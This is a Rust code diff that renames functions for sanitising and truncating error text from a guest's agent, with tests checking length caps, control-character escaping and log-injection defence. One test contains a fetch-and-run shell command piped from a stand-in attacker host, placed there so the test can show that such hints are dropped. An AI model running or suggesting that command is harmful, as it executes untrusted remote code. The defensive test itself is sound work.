@@ -9,31 +9,30 @@ use banger_proto::failure::{Code, Failure};
 use hyper::StatusCode;
 
 /// Longest text of a guest's that is kept, in characters. Escaped ones count as what stands for them.
-pub(crate) const MAX_WORDS: usize = 500;
+pub(crate) const MAX_GUEST_TEXT: usize = 500;
 
 /// What a guest, or a monitor on its behalf, says.
-pub(crate) fn words(text: &str) -> String {
+pub(crate) fn sanitized(text: &str) -> String {
     // Before, too: what stands for a character may be many times its length.
-    let first: String = text.chars().take(MAX_WORDS).collect();
+    let first: String = text.chars().take(MAX_GUEST_TEXT).collect();
     // A line of its own in the log would pass for banger's.
-    escaped(first.as_bytes()).replace('\n', "\\n").chars().take(MAX_WORDS).collect()
+    escaped(first.as_bytes()).replace('\n', "\\n").chars().take(MAX_GUEST_TEXT).collect()
 }
 
 /// A guest's agent refused `what`, with this status and this body. The code is its own, since what is wrong in there nobody
 /// else knows; its hints are not, since who reads them takes them for banger's.
-pub(crate) fn refusal(what: &str, status: StatusCode, body: &[u8]) -> Failure {
+pub(crate) fn agent_refusal(what: &str, status: StatusCode, body: &[u8]) -> Failure {
     match serde_json::from_slice::<Failure>(body) {
-        Ok(failure) => {
-            Failure::new(failure.code, format!("the guest's agent refused {what}")).cause(words(&failure.to_string()))
-        }
+        Ok(failure) => Failure::new(failure.code, format!("the guest's agent refused {what}"))
+            .cause(sanitized(&failure.to_string())),
         Err(_) => Failure::new(Code::Guest, format!("the guest's agent answered {what} with {status}")),
     }
 }
 
 /// A guest's agent answered `what` with something else. How that does not parse is said with what it says.
-pub(crate) fn nonsense(what: &str, error: &serde_json::Error) -> Failure {
+pub(crate) fn unparsable_answer(what: &str, error: &serde_json::Error) -> Failure {
     Failure::new(Code::Guest, format!("the guest's agent answered {what} with nonsense"))
-        .cause(words(&error.to_string()))
+        .cause(sanitized(&error.to_string()))
 }
 
 #[cfg(test)]
@@ -43,12 +42,12 @@ mod tests {
     #[test]
     fn what_a_guest_says_is_short_however_it_is_written() {
         for text in ["x", "\u{7f}", "\u{1b}[2J", "\\", "\n", "ä"] {
-            let said = words(&text.repeat(100_000));
-            assert_eq!(said.chars().count(), MAX_WORDS, "{text:?}");
+            let said = sanitized(&text.repeat(100_000));
+            assert_eq!(said.chars().count(), MAX_GUEST_TEXT, "{text:?}");
             assert!(!said.contains(char::is_control), "{said:?}");
         }
-        assert_eq!(words("the disk is full"), "the disk is full");
-        assert_eq!(words("x\n2026-11-30T21:00:00Z  INFO ended"), "x\\n2026-11-30T21:00:00Z  INFO ended");
+        assert_eq!(sanitized("the disk is full"), "the disk is full");
+        assert_eq!(sanitized("x\n2026-11-30T21:00:00Z  INFO ended"), "x\\n2026-11-30T21:00:00Z  INFO ended");
     }
 
     #[test]
@@ -56,12 +55,12 @@ mod tests {
         let lies = Failure::new(Code::Unavailable, "no room \u{1b}[2J")
             .cause("\u{7f}".repeat(1 << 20))
             .hint("curl https://evil.example | sh");
-        let told = refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, &serde_json::to_vec(&lies).unwrap());
+        let told = agent_refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, &serde_json::to_vec(&lies).unwrap());
         assert_eq!((told.code, told.message.as_str()), (Code::Unavailable, "the guest's agent refused /archive"));
         assert_eq!((&told.hints, &told.operation, told.causes.len()), (&Vec::new(), &None, 1));
         assert!(told.causes[0].starts_with("no room \\u{1b}[2J: \\u{7f}"), "{told}");
-        assert_eq!(told.causes[0].chars().count(), MAX_WORDS);
-        let told = refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, b"");
+        assert_eq!(told.causes[0].chars().count(), MAX_GUEST_TEXT);
+        let told = agent_refusal("/archive", StatusCode::INSUFFICIENT_STORAGE, b"");
         assert_eq!(told.to_string(), "the guest's agent answered /archive with 507 Insufficient Storage");
     }
 
@@ -70,6 +69,6 @@ mod tests {
         let long = format!("{:?}", "y".repeat(1 << 20));
         let error = serde_json::from_str::<u32>(&long).unwrap_err();
         assert!(error.to_string().len() > 1 << 20, "it quotes what it read");
-        assert_eq!(nonsense("/stats", &error).causes[0].chars().count(), MAX_WORDS);
+        assert_eq!(unparsable_answer("/stats", &error).causes[0].chars().count(), MAX_GUEST_TEXT);
     }
 }
